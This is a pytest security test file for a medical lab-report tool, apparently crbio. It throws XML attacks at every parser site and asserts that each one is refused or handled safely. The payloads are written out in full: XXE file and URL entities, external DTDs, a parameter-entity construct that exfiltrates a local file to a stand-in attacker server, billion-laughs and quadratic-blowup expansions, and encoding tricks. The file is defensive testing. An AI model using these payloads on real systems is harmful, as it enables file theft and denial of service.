"""XML attacks against every place crbio parses XML from outside, and what each one does.

Parse sites: the safe parser itself (:func:`crbio._xml.parse_xml`), the incoming CR-BIO reader
(``crbio.input.load_report`` on a ``.xml``, ``crbio build``), the subcontractor merge
(``merge_subcontracted``, ``crbio merge``), the dispatch header reader, validation
(``validate_document``, ``crbio validate``) and the ANS kit through Saxon (``xml_text``), the
HTML rendering (``render_html``, ``crbio render``), the SOAP responses the DMP sends back
(read by the DMP sender from a real HTTPS server answering the attack), and what the
simulators and the conformity run read from crbio (the XDS simulator's SOAP envelope, the
operator API's and the conformity check's ``METADATA.XML``). Config files are TOML and JSON:
their own attacks (deep nesting, BOM, size) are at the end.

Each attack is either **refused** with a ``CrbioError`` (code ``input.xml`` or the reader's own,
naming the document, no traceback) or **handled** (a BOM-prefixed or UTF-16 CDA reads exactly
like the UTF-8 one). External entities and DTDs point at a real file holding a marker and at a
second local HTTP server, the "attacker": the marker never appears in any result, message or
output file, and the attacker never receives a request.
"""

from __future__ import annotations

import codecs
import io
import re
import ssl
import tomllib
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

import crbio
from crbio._xml import MAX_XML_BYTES, parse_xml, xml_text
from crbio.cli import main
from crbio.conformity.checks import xdm_action
from crbio.dispatch.config import DispatchConfig
from crbio.dispatch.delivery import Action, Channel, Delivery, Job, Recipient, RecipientKind
from crbio.dispatch.header import read_header
from crbio.dispatch.senders.base import SenderContext
from crbio.dispatch.senders.dmp import DmpSender
from crbio.dispatch.xds.soap import parse_message
from crbio.errors import ConfigurationError, CrbioError, InputError, PermanentSendError, SendError
from crbio.input import load_report
from crbio.input.hl7v2 import OruDefaults
from crbio.merge import merge_subcontracted
from crbio.presentation import render_html
from crbio.simulators import operator_api, xds
from crbio.simulators.base import HttpHandler, LocalServer
from crbio.simulators.pki import TestPki as Pki
from crbio.simulators.pki import make_test_pki
from crbio.validation.validate import validate_document

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
OUTPUT = SAMPLES / "output"
SUBCONTRACTOR = ROOT / "tests" / "fixtures" / "subcontractor-report.json"
MARKER = "crbio-xxe-marker-5b1e9c"  # what the file an attack points at holds
SOAP = "http://www.w3.org/2003/05/soap-envelope"
RS = "urn:oasis:names:tc:ebxml-regrep:xsd:rs:3.0"
SUCCESS = "urn:oasis:names:tc:ebxml-regrep:ResponseStatusType:Success"


# -- the attacker: a plain HTTP server that records every request ------------------------------


class Attacker:
    """A local HTTP server an attack tries to make crbio fetch from; it records every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        owner = self

        class Handler(HttpHandler):
            def do_GET(self) -> None:
                owner.requests.append(self.path)
                self.send_body(200, "application/xml-dtd", f'<!ENTITY leak "{MARKER}">'.encode())

            do_POST = do_GET

        self.server = LocalServer.http(self, Handler, name="attacker")
        self.server.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.port}"

    def close(self) -> None:
        self.server.stop()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def marker_uri(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The URI of a real local file holding the marker: what an external entity would leak."""
    secret = tmp_path_factory.mktemp("secret") / "secret.txt"
    secret.write_text(MARKER, encoding="ascii")
    return secret.as_uri()


@pytest.fixture(autouse=True)
def nothing_fetched(attacker: Attacker) -> Iterator[None]:
    """After every test: the attacker's server never heard from crbio."""
    attacker.requests.clear()
    yield
    assert attacker.requests == [], f"crbio fetched {attacker.requests}"


# -- the attacks ------------------------------------------------------------------------------

REFUSED, HANDLED, HARMLESS = "refused", "handled", "harmless"
"""Refused with an error; handled: reads exactly like the plain document; harmless: read or
refused, either way without resolving anything."""

ATTACKS: dict[str, str] = {
    "xxe-file": REFUSED,
    "xxe-url": REFUSED,
    "external-dtd": REFUSED,
    "external-dtd-public": REFUSED,
    "parameter-entity": REFUSED,
    "parameter-entity-exfiltration": REFUSED,
    "billion-laughs": REFUSED,
    "quadratic-blowup": REFUSED,
    "attlist-defaults": REFUSED,
    "xinclude": HARMLESS,
    "too-large": REFUSED,
    "deep-nesting": REFUSED,
    "utf8-bom": HANDLED,
    "utf16-le-bom": HANDLED,
    "utf16-be-bom": HANDLED,
    "utf16-without-bom": HANDLED,
    "utf32-bom": HANDLED,
    "declared-utf16-bytes-utf8": REFUSED,
    "utf8-bom-declared-utf16": REFUSED,
    "declared-utf8-bytes-cp1252": REFUSED,
    "mixed-encodings": REFUSED,
    "ebcdic": REFUSED,
    "nul-character": REFUSED,
    "control-character": REFUSED,
    "control-character-reference": REFUSED,
    "noncharacter-reference": REFUSED,
}

_ROOT_START = re.compile(rb"<([A-Za-z_][\w.:-]*)[^>]*>")


def _root(base: bytes) -> tuple[bytes, int, int]:
    """The root element's name, where its start tag starts and where it ends (after ``>``)."""
    at = 0
    while True:  # skip the declaration, processing instructions and comments of the prolog
        match = _ROOT_START.search(base, at)
        assert match is not None
        if base[match.start() + 1 : match.start() + 2] not in (b"?", b"!"):
            return match.group(1), match.start(), match.end()
        at = match.end()


def _reencode(base: bytes, codec: str, declared: str, *, bom: bytes = b"") -> bytes:
    text = base.decode("utf-8").replace('encoding="UTF-8"', f'encoding="{declared}"', 1)
    assert f'encoding="{declared}"' in text
    return bom + text.encode(codec)


def attack(name: str, base: bytes, marker_uri: str, attacker_url: str) -> bytes:
    """The UTF-8 document ``base`` turned into attack ``name``."""
    root, start, end = _root(base)
    head, tag, rest = base[:start], base[start:end], base[end:]

    def doctype(subset: str, entity: bytes = b"") -> bytes:
        return head + f"<!DOCTYPE {root.decode()} {subset}>\n".encode() + tag + entity + rest

    def inside(content: bytes) -> bytes:
        return head + tag + content + rest

    non_ascii = inside("<!-- é – ü -->".encode())
    match name:
        case "xxe-file":
            return doctype(f'[<!ENTITY e SYSTEM "{marker_uri}">]', b"&e;")
        case "xxe-url":
            return doctype(f'[<!ENTITY e SYSTEM "{attacker_url}/xxe">]', b"&e;")
        case "external-dtd":
            return doctype(f'SYSTEM "{attacker_url}/external.dtd"')
        case "external-dtd-public":
            return doctype(f'PUBLIC "-//crbio//attack//EN" "{attacker_url}/public.dtd"')
        case "parameter-entity":
            return doctype(f'[<!ENTITY % p SYSTEM "{attacker_url}/parameter.dtd"> %p;]', b"&leak;")
        case "parameter-entity-exfiltration":
            return doctype(
                f'[<!ENTITY % file SYSTEM "{marker_uri}">'
                f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{attacker_url}/?%file;'>\"> %wrap; %send;]"
            )
        case "billion-laughs":
            entities = '<!ENTITY l0 "lol">' + "".join(
                f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)
            )
            return doctype(f"[{entities}]", b"&l9;")
        case "quadratic-blowup":
            return doctype(f'[<!ENTITY a "{"a" * 50_000}">]', b"&a;" * 20_000)
        case "attlist-defaults":
            return doctype(f'[<!ATTLIST {root.decode()} injected CDATA "{MARKER}">]')
        case "xinclude":
            return inside(
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{marker_uri}" parse="text"/>'
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{attacker_url}/x.xml"/>'
                "".encode()
            )
        case "too-large":
            padding = MAX_XML_BYTES + 1 - len(base) - len(b"<!--  -->")
            return inside(b"<!-- " + b"x" * padding + b" -->")
        case "deep-nesting":
            return inside(b"<x>" * 10_000 + b"</x>" * 10_000)
        case "utf8-bom":
            return codecs.BOM_UTF8 + base
        case "utf16-le-bom":
            return _reencode(non_ascii, "utf-16-le", "UTF-16", bom=codecs.BOM_UTF16_LE)
        case "utf16-be-bom":
            return _reencode(non_ascii, "utf-16-be", "UTF-16", bom=codecs.BOM_UTF16_BE)
        case "utf16-without-bom":
            return _reencode(non_ascii, "utf-16-le", "UTF-16")
        case "utf32-bom":
            return _reencode(non_ascii, "utf-32", "UTF-32")
        case "declared-utf16-bytes-utf8":
            return non_ascii.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1)
        case "utf8-bom-declared-utf16":
            return codecs.BOM_UTF8 + non_ascii.replace(b'encoding="UTF-8"', b'encoding="UTF-16"', 1)
        case "declared-utf8-bytes-cp1252":
            return non_ascii.decode("utf-8").encode("cp1252")
        case "mixed-encodings":
            return inside("<!-- é -->".encode() + "<!-- è -->".encode("latin-1"))
        case "ebcdic":
            text = base.decode("utf-8").replace('encoding="UTF-8"', 'encoding="IBM500"', 1)
            return text.encode("cp500", errors="replace")
        case "nul-character":
            return inside(b"<!-- \x00 -->")
        case "control-character":
            return inside(b"<!-- \x01 -->")
        case "control-character-reference":
            return inside(b"<x>&#1;</x>")
        case "noncharacter-reference":
            return inside(b"<x>&#xFFFE;</x>")
    raise AssertionError(name)


# -- the parse sites ----------------------------------------------------------------------------


class Refused(Exception):
    """A simulator's or a check's own refusal (they answer a fault, they do not raise CrbioError)."""


def _soap(payload: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="{SOAP}"><s:Body>{payload}</s:Body>'
        "</s:Envelope>"
    ).encode()


REGISTRY_RESPONSE = _soap(f'<rs:RegistryResponse xmlns:rs="{RS}" status="{SUCCESS}"/>')


@pytest.fixture(scope="module")
def subcontractor_n3() -> bytes:
    """A subcontractor's CR-BIO N3, as crbio builds it (what ``crbio merge`` reads)."""
    return crbio.build(load_report(SUBCONTRACTOR)).n3


@pytest.fixture(scope="module")
def xdm_metadata() -> bytes:
    """A real ``METADATA.XML`` from an ``IHE_XDM.ZIP`` crbio builds for the MSSanté channels."""
    from datetime import UTC, datetime

    from crbio.dispatch.xdm import build_xdm

    job = dmp_job("01-biochimie", channel=Channel.MSSANTE)
    context = SenderContext(
        laboratory_finess="920000015",
        laboratory_name="Laboratoire des Charmes",
        laboratory_oid="1.2.250.1.999.1",
    )
    with zipfile.ZipFile(
        io.BytesIO(build_xdm(job, context, submission_time=datetime(2024, 1, 4, tzinfo=UTC)))
    ) as z:
        metadata = z.read("IHE_XDM/SUBSET01/METADATA.XML")
    # lxml writes the declaration with single quotes; the attacks rewrite the usual double-quoted one.
    return metadata.replace(
        b"<?xml version='1.0' encoding='UTF-8'?>", b'<?xml version="1.0" encoding="UTF-8"?>', 1
    )


def _with_metadata(metadata: bytes) -> bytes:
    """An ``IHE_XDM.ZIP`` holding ``metadata`` as its METADATA.XML, for the operator API simulator."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("README.TXT", "INDEX.HTM", "IHE_XDM/SUBSET01/DOC0001.XML"):
            archive.writestr(name, b"x")
        archive.writestr("IHE_XDM/SUBSET01/METADATA.XML", metadata)
    return buffer.getvalue()


def _xds_envelope(data: bytes) -> object:
    try:
        return etree.tostring(xds._parse_envelope(data), method="c14n")
    except xds._SoapFault as fault:
        raise Refused(str(fault)) from None


def _operator_metadata(data: bytes) -> object:
    try:
        return operator_api._check_xdm(_with_metadata(data))
    except operator_api._Refusal as refusal:
        raise Refused(str(refusal)) from None


def _conformity_metadata(data: bytes) -> object:
    action = xdm_action(data)
    if action == "unreadable METADATA.XML":
        raise Refused(action)
    return action


def _cda_reader(tmp_path: Path) -> Callable[[bytes], object]:
    def read(data: bytes) -> object:
        path = tmp_path / "incoming.xml"
        path.write_bytes(data)
        return load_report(path)

    return read


def _validate(data: bytes) -> object:
    report = validate_document(data, label="incoming.xml")
    return report.ok, report.findings


# name → (base document, reader(data) given tmp_path, is it crbio's own library API)
SITES: dict[str, tuple[str, Callable[[Path], Callable[[bytes], object]], bool]] = {
    "parse_xml": (
        "cda",
        lambda _: lambda d: etree.tostring(parse_xml(d, label="incoming.xml"), method="c14n"),
        True,
    ),
    "cda-reader": ("cda", _cda_reader, True),
    "merge": ("subcontractor", lambda _: lambda d: None, True),  # replaced in the test (needs fixtures)
    "dispatch-header": ("cda", lambda _: lambda d: read_header(d, label="incoming.xml"), True),
    "validate": ("cda", lambda _: _validate, True),
    "render-html": ("cda", lambda _: lambda d: render_html(d), True),
    "soap-response": (
        "soap",
        lambda _: (
            lambda d: etree.tostring(
                parse_message("application/soap+xml", d, label="response").envelope, method="c14n"
            )
        ),
        True,
    ),
    "xds-simulator-envelope": ("soap", lambda _: _xds_envelope, False),
    "operator-api-simulator-metadata": ("metadata", lambda _: _operator_metadata, False),
    "conformity-xdm-metadata": ("metadata", lambda _: _conformity_metadata, False),
}


def dmp_job(sample: str, *, channel: Channel = Channel.DMP) -> Job:
    n3 = (OUTPUT / f"{sample}.n3.xml").read_bytes()
    header = read_header(n3)
    delivery = Delivery(
        channel=channel,
        action=Action.SUBMIT,
        recipient=Recipient(RecipientKind.DMP, "dmp")
        if channel is Channel.DMP
        else Recipient(RecipientKind.PROFESSIONAL, "pascal.charles@medecin.mssante.fr"),
        document_id=header.document_id,
        version=header.version,
        replaces=header.replaces,
        metadata={"confidentiality": [header.confidentiality], "secret_connection": False},
    )
    return Job(delivery, 1, n3, (OUTPUT / f"{sample}.pdf").read_bytes(), None)


def _check_refusal(error: BaseException, library: bool, label: str | None) -> None:
    message = str(error)
    assert MARKER not in message
    assert "\n" not in message.strip(), "a refusal is one line"
    if library:
        assert isinstance(error, CrbioError), f"{type(error).__name__}: {message}"
        assert error.code.startswith("input"), error.code
        assert label is None or message.startswith(f"{label}: "), message


@pytest.mark.parametrize("site", sorted(SITES))
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_every_parse_site_refuses_or_handles_every_attack(
    site: str,
    name: str,
    tmp_path: Path,
    marker_uri: str,
    attacker: Attacker,
    subcontractor_n3: bytes,
    xdm_metadata: bytes,
) -> None:
    kind, make_reader, library = SITES[site]
    base = {
        "cda": (OUTPUT / "01-biochimie.n3.xml").read_bytes(),
        "subcontractor": subcontractor_n3,
        "soap": REGISTRY_RESPONSE,
        "metadata": xdm_metadata,
    }[kind]
    read = make_reader(tmp_path)
    # load_report() leaves the file's name to its caller (the command line prefixes it).
    label: str | None = {"cda-reader": None, "soap-response": "response", "render-html": "document"}.get(
        site, "incoming.xml"
    )
    if site == "merge":
        own = load_report(SAMPLES / "01-biochimie.json")
        label = "subcontractor.xml"

        def read(data: bytes) -> object:
            outcome = merge_subcontracted(own, data, label="subcontractor.xml")
            return (outcome.structured, outcome.results, outcome.report.chapters)

    data = attack(name, base, marker_uri, attacker.url)
    expected = ATTACKS[name]
    try:
        result = read(data)
    except (CrbioError, Refused) as error:
        assert expected != HANDLED, f"{name} should be read, was refused: {error}"
        _check_refusal(error, library and not isinstance(error, Refused), label)
        return
    assert expected != REFUSED, f"{name} was accepted by {site}"
    assert MARKER not in repr(result)
    if expected == HANDLED:
        assert result == read(base if name == "utf8-bom" else _plain_non_ascii(base))


def _plain_non_ascii(base: bytes) -> bytes:
    """The UTF-8 document the re-encoded attacks were made from."""
    _, _, end = _root(base)
    return base[:end] + "<!-- é – ü -->".encode() + base[end:]


# -- the ANS kit: Saxon reads the text xml_text() hands it ---------------------------------------

KIT_ATTACKS = [
    n
    for n in sorted(ATTACKS)
    if n not in ("too-large", "utf32-bom", "utf16-be-bom", "declared-utf8-bytes-cp1252", "quadratic-blowup")
]


@pytest.mark.parametrize("name", KIT_ATTACKS)
def test_the_ans_kit_refuses_or_handles_every_attack(
    name: str, ans_kit_n1: Any, marker_uri: str, attacker: Attacker
) -> None:
    """Saxon resolves DTDs and entities itself: xml_text() refuses them first, Saxon the rest."""
    base = (OUTPUT / "01-biochimie.n1.xml").read_bytes()
    data = attack(name, base, marker_uri, attacker.url)
    try:
        report = ans_kit_n1.check(data, label="incoming.xml")
    except CrbioError as error:
        assert ATTACKS[name] != HANDLED, f"{name}: {error}"
        _check_refusal(error, True, "incoming.xml")
        return
    assert ATTACKS[name] != REFUSED, f"{name} accepted by the kit"
    assert MARKER not in report.summary()
    if ATTACKS[name] == HANDLED:
        plain = base if name == "utf8-bom" else _plain_non_ascii(base)
        assert report.findings == ans_kit_n1.check(plain, label="incoming.xml").findings


def test_xml_text_decodes_what_the_parser_reads() -> None:
    """The text handed to Saxon: UTF-16 without BOM and UTF-32 decode, a lying declaration is refused."""
    text = '<?xml version="1.0" encoding="UTF-16"?><r>é</r>'
    assert xml_text(text.encode("utf-16-le"), label="d") == text
    assert xml_text(text.encode("utf-16-be"), label="d") == text
    text32 = text.replace("UTF-16", "UTF-32")
    assert xml_text(text32.encode("utf-32"), label="d") == text32
    for data in (text.encode("utf-8"), codecs.BOM_UTF8 + text.encode("utf-8")):
        with pytest.raises(InputError, match="declares the encoding 'UTF-16'") as caught:
            xml_text(data, label="d")
        assert caught.value.code == "input.xml"


def test_a_declaration_is_authoritative_never_guessed() -> None:
    """UTF-8 bytes declared ISO-8859-1 read as ISO-8859-1 (XML 1.0 §4.3.3): crbio does not guess."""
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><r>é</r>'.encode()
    assert parse_xml(data, label="d").getroot().text == "Ã©"


# -- the command line: refused with one line naming the file, nothing written ---------------------

CLI_ATTACKS = sorted(n for n, e in ATTACKS.items() if e == REFUSED and n != "too-large")


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    status = main(argv)
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def _assert_refused_by_cli(status: int, out: str, err: str, name: str, outdir: Path | None) -> None:
    assert status == 2, (status, out, err)
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"crbio: {name}: "), err
    assert "Traceback" not in err and MARKER not in out + err
    if outdir is not None:
        assert not outdir.exists() or not any(outdir.rglob("*")), sorted(outdir.rglob("*"))


@pytest.mark.parametrize("name", CLI_ATTACKS)
def test_crbio_build_validate_and_render_refuse_an_attack(
    name: str, tmp_path: Path, marker_uri: str, attacker: Attacker, capsys: pytest.CaptureFixture[str]
) -> None:
    incoming = tmp_path / "incoming.xml"
    incoming.write_bytes(
        attack(name, (OUTPUT / "01-biochimie.n3.xml").read_bytes(), marker_uri, attacker.url)
    )
    out = tmp_path / "out"
    _assert_refused_by_cli(*_run(["build", str(incoming), "-o", str(out)], capsys), "incoming.xml", out)
    _assert_refused_by_cli(*_run(["validate", str(incoming)], capsys), "incoming.xml", None)
    html = tmp_path / "html" / "page.html"
    status, stdout, err = _run(["render", str(incoming), "-o", str(html)], capsys)
    _assert_refused_by_cli(status, stdout, err, "incoming.xml", html.parent)


@pytest.mark.parametrize("name", CLI_ATTACKS)
def test_crbio_merge_refuses_an_attack(
    name: str,
    tmp_path: Path,
    marker_uri: str,
    attacker: Attacker,
    subcontractor_n3: bytes,
    capsys: pytest.CaptureFixture[str],
) -> None:
    incoming = tmp_path / "subcontractor.xml"
    incoming.write_bytes(attack(name, subcontractor_n3, marker_uri, attacker.url))
    out = tmp_path / "out"
    status, stdout, err = _run(
        ["merge", str(SAMPLES / "01-biochimie.json"), str(incoming), "-o", str(out)], capsys
    )
    _assert_refused_by_cli(status, stdout, err, "subcontractor.xml", out)


def test_crbio_build_refuses_a_too_large_cda_before_reading_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    incoming = tmp_path / "incoming.xml"
    with incoming.open("wb") as handle:  # sparse: 64 MiB + 1 that are never read
        handle.truncate(MAX_XML_BYTES + 1)
    out = tmp_path / "out"
    status, stdout, err = _run(["build", str(incoming), "-o", str(out)], capsys)
    _assert_refused_by_cli(status, stdout, err, "incoming.xml", out)
    assert "too large" in err


@pytest.mark.parametrize("name", ["utf8-bom", "utf16-le-bom", "utf16-without-bom"])
def test_crbio_build_reads_a_bom_or_utf16_cda(
    name: str, tmp_path: Path, marker_uri: str, attacker: Attacker, capsys: pytest.CaptureFixture[str]
) -> None:
    incoming = tmp_path / "incoming.xml"
    incoming.write_bytes(
        attack(name, (OUTPUT / "01-biochimie.n3.xml").read_bytes(), marker_uri, attacker.url)
    )
    out = tmp_path / "out"
    status, stdout, err = _run(["build", str(incoming), "-o", str(out)], capsys)
    assert status == 0, err
    assert sorted(p.name for p in out.iterdir()) == [
        "crbio-cda.xsl",
        "incoming.n1.xml",
        "incoming.n3.xml",
        "incoming.pdf",
    ]


# -- SOAP responses from the DMP, over real HTTPS ------------------------------------------------


class HostileDmp:
    """An HTTPS endpoint on 127.0.0.1 that answers every POST with one scripted body."""

    def __init__(self, pki: Pki) -> None:
        self.answer = (200, "application/soap+xml; charset=UTF-8", REGISTRY_RESPONSE)
        self.posts = 0
        tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        tls.load_cert_chain(pki.server_cert, pki.server_key)
        owner = self

        class Handler(HttpHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers["Content-Length"]))
                owner.posts += 1
                self.send_body(*owner.answer)

        self.server = LocalServer.http(self, Handler, name="hostile-dmp", tls=tls)
        self.server.start()

    @property
    def url(self) -> str:
        return f"https://127.0.0.1:{self.server.port}/si-dmp-server/v2/services"

    def close(self) -> None:
        self.server.stop()


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> Pki:
    return make_test_pki(tmp_path_factory.mktemp("pki"))


@pytest.fixture(scope="module")
def hostile_dmp(pki: Pki) -> Iterator[HostileDmp]:
    server = HostileDmp(pki)
    yield server
    server.close()


@pytest.fixture(scope="module")
def dmp_sender(
    pki: Pki, hostile_dmp: HostileDmp, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[DmpSender]:
    context = SenderContext(
        laboratory_finess="920000015",
        laboratory_name="Laboratoire des Charmes",
        laboratory_oid="1.2.250.1.999.1",
        software_name="crbio",
        software_version="0.1.0",
        dmp_homologation="CRB-2024-0001",
        base_dir=tmp_path_factory.mktemp("dmp"),
    )
    section = {
        "url": hostile_dmp.url,
        "ca_file": str(pki.ca_cert),
        "client_cert": str(pki.auth_cert),
        "client_key": str(pki.auth_key),
        "sign_cert": str(pki.sign_cert),
        "sign_key": str(pki.sign_key),
        "timeout": 5,
    }
    sender = DmpSender.from_config(section, context)
    yield sender
    sender.close()


@pytest.mark.parametrize("name", sorted(n for n, e in ATTACKS.items() if e == REFUSED))
def test_the_dmp_sender_refuses_a_hostile_soap_response(
    name: str, hostile_dmp: HostileDmp, dmp_sender: DmpSender, marker_uri: str, attacker: Attacker
) -> None:
    """The DMP answers with an attack: a clear permanent send error, nothing fetched, no marker."""
    hostile_dmp.answer = (
        200,
        "application/soap+xml; charset=UTF-8",
        attack(name, REGISTRY_RESPONSE, marker_uri, attacker.url),
    )
    before = hostile_dmp.posts
    with pytest.raises(SendError) as caught:
        dmp_sender.send(dmp_job("01-biochimie"))
    error = caught.value
    assert hostile_dmp.posts == before + 1
    assert isinstance(error, PermanentSendError), error
    assert error.code == "dispatch.dmp.response", (error.code, str(error))
    assert "unreadable SOAP response" in error.reason, error.reason
    assert MARKER not in str(error) + error.reason + repr(error.detail)


def test_the_dmp_sender_reads_a_bom_prefixed_response(hostile_dmp: HostileDmp, dmp_sender: DmpSender) -> None:
    hostile_dmp.answer = (200, "application/soap+xml; charset=UTF-8", codecs.BOM_UTF8 + REGISTRY_RESPONSE)
    ack = dmp_sender.send(dmp_job("01-biochimie"))
    assert "Success" in ack.summary


def test_a_hostile_soap_fault_with_a_server_error_status_stays_transient(
    hostile_dmp: HostileDmp, dmp_sender: DmpSender, marker_uri: str, attacker: Attacker
) -> None:
    """A 503 whose body is an attack is still a 503: retried later, body ignored."""
    hostile_dmp.answer = (
        503,
        "application/soap+xml",
        attack("xxe-url", REGISTRY_RESPONSE, marker_uri, attacker.url),
    )
    with pytest.raises(SendError) as caught:
        dmp_sender.send(dmp_job("01-biochimie"))
    assert caught.value.retryable and caught.value.reason == "HTTP 503"


# -- configuration files: TOML and JSON -----------------------------------------------------------

CONFIG = """[laboratory]
finess = "920000015"
name = "Laboratoire des Charmes"
oid = "1.2.250.1.999.1"
"""


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(("a = " + "[" * 100_000 + "]" * 100_000).encode(), id="deep-array"),
        pytest.param(("a = " + "{b = " * 5_000 + "1" + "}" * 5_000).encode(), id="deep-inline-table"),
        pytest.param(b'[laboratory]\nname = "\x00"\n', id="nul"),
        pytest.param('[laboratory]\nname = "é"\n'.encode("latin-1"), id="not-utf8"),
    ],
)
def test_a_hostile_dispatch_config_is_a_configuration_error(tmp_path: Path, content: bytes) -> None:
    config = tmp_path / "crbio.toml"
    config.write_bytes(content)
    with pytest.raises(ConfigurationError) as caught:
        DispatchConfig.load(config)
    assert str(config) in str(caught.value) and "\n" not in str(caught.value)


def test_a_bom_prefixed_dispatch_config_is_read(tmp_path: Path) -> None:
    config = tmp_path / "crbio.toml"
    config.write_bytes(codecs.BOM_UTF8 + CONFIG.encode())
    assert DispatchConfig.load(config).context.laboratory_finess == "920000015"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(("timezone = " + "[" * 100_000 + "]" * 100_000).encode(), id="deep-array"),
        pytest.param(b'timezone = "\x00"\n', id="nul"),
    ],
)
def test_a_hostile_oru_config_is_a_configuration_error(tmp_path: Path, content: bytes) -> None:
    config = tmp_path / "crbio-oru.toml"
    config.write_bytes(content)
    with pytest.raises(ConfigurationError) as caught:
        OruDefaults.load(config)
    assert caught.value.code == "config.oru" and "crbio-oru.toml" in str(caught.value)


def test_a_deeply_nested_json_report_is_refused(tmp_path: Path) -> None:
    report = tmp_path / "deep.json"
    report.write_bytes(b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    with pytest.raises(InputError) as caught:
        load_report(report)
    assert caught.value.code.startswith("input")


def test_tomllib_itself_overflows_on_deep_nesting() -> None:
    """Why the readers above catch RecursionError: Python's TOML parser recurses per level."""
    with pytest.raises(RecursionError):
        tomllib.loads("a = " + "[" * 100_000 + "]" * 100_000)


@pytest.mark.parametrize("suffix", [".toml", ".json"])
def test_a_deeply_nested_conformity_scenario_is_refused(tmp_path: Path, suffix: str) -> None:
    from crbio.conformity.scenario import ScenarioError, load_scenario

    scenario = tmp_path / f"deep{suffix}"
    nested = "[" * 100_000 + "]" * 100_000
    scenario.write_text(f"a = {nested}" if suffix == ".toml" else f'{{"a": {nested}}}', encoding="utf-8")
    with pytest.raises(ScenarioError, match="nested too deeply"):
        load_scenario(scenario)


def test_a_loinc_mapping_with_a_huge_cell_is_a_configuration_error() -> None:
    from crbio.input.loinc_mapping import LoincMapping

    with pytest.raises(ConfigurationError, match="line 2: not CSV") as caught:
        LoincMapping.parse("GLY,2345-7\nX," + "9" * 200_000, source="local-loinc.csv")
    assert caught.value.code == "config.loinc-mapping"
